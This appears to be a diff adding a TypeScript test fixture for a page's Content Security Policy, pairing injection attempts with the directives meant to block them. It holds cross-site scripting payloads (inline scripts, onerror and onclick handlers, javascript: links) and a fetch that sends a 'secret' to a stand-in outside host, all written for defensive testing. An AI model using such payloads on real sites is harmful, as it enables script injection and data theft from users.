@@ -1,0 +1,111 @@
+const TRUSTED_TYPES = 'require-trusted-types-for';
+
+/** What foreign code in a page may try, and the directive that refuses it. Each sets `window.ran` if it can. */
+export const attacks: Record<string, { directive: string; attack: () => void }> = {
+  'an inline script': {
+    directive: TRUSTED_TYPES,
+    attack: () => {
+      const script = document.createElement('script');
+      script.textContent = 'window.ran = true';
+      document.body.append(script);
+    },
+  },
+  'an event handler': {
+    directive: TRUSTED_TYPES,
+    attack: () => {
+      const button = document.createElement('button');
+      button.setAttribute('onclick', 'window.ran = true');
+      document.body.append(button);
+      button.click();
+    },
+  },
+  'markup as a string': {
+    directive: TRUSTED_TYPES,
+    attack: () => {
+      document.body.innerHTML = '<img src="x" onerror="window.ran = true">';
+    },
+  },
+  'code as a string': {
+    directive: TRUSTED_TYPES,
+    attack: () => {
+      window.setTimeout('window.ran = true');
+    },
+  },
+  'a foreign script': {
+    directive: TRUSTED_TYPES,
+    attack: () => {
+      const script = document.createElement('script');
+      script.src = 'https://elsewhere.example/a.js';
+      document.body.append(script);
+    },
+  },
+  'a policy of its own': {
+    directive: 'trusted-types',
+    attack: () => {
+      window.trustedTypes!.createPolicy('mine', { createHTML: (html) => html });
+    },
+  },
+  'a javascript: link': {
+    directive: 'script-src-elem',
+    attack: () => {
+      const link = document.createElement('a');
+      link.href = 'javascript:window.ran=true';
+      document.body.append(link);
+      link.click();
+    },
+  },
+  'a frame': {
+    directive: 'frame-src',
+    attack: () => {
+      const frame = document.createElement('iframe');
+      frame.src = 'https://elsewhere.example/';
+      document.body.append(frame);
+    },
+  },
+  'a form that is sent': {
+    directive: 'form-action',
+    attack: () => {
+      const form = document.createElement('form');
+      form.method = 'post';
+      form.action = 'https://elsewhere.example/';
+      document.body.append(form);
+      form.submit();
+    },
+  },
+  'another base': {
+    directive: 'base-uri',
+    attack: () => {
+      const base = document.createElement('base');
+      base.href = 'https://elsewhere.example/';
+      document.head.append(base);
+    },
+  },
+  'a message to elsewhere': {
+    directive: 'connect-src',
+    attack: () => void fetch('https://elsewhere.example/?secret').catch(() => undefined),
+  },
+};
+
+/** Markup that an attacker would like to have in a document. */
+export const injectedMarkup = [
+  '<script>window.ran = true</script>',
+  '<script src="https://elsewhere.example/a.js"></script>',
+  '<style>main { display: none }</style>',
+  '<p style="color: red">Injected</p>',
+  '<button onclick="window.ran = true">Injected</button>',
+  '<a href="javascript:window.ran = true">Injected</a>',
+  '<img alt="" src="https://elsewhere.example/a.png">',
+  '<iframe src="https://elsewhere.example/"></iframe>',
+  '<object data="https://elsewhere.example/"></object>',
+];
+
+/** The directives that refuse it. */
+export const refusedMarkup = [
+  'frame-src',
+  'img-src',
+  'object-src',
+  'script-src-attr',
+  'script-src-elem',
+  'style-src-attr',
+  'style-src-elem',
+];
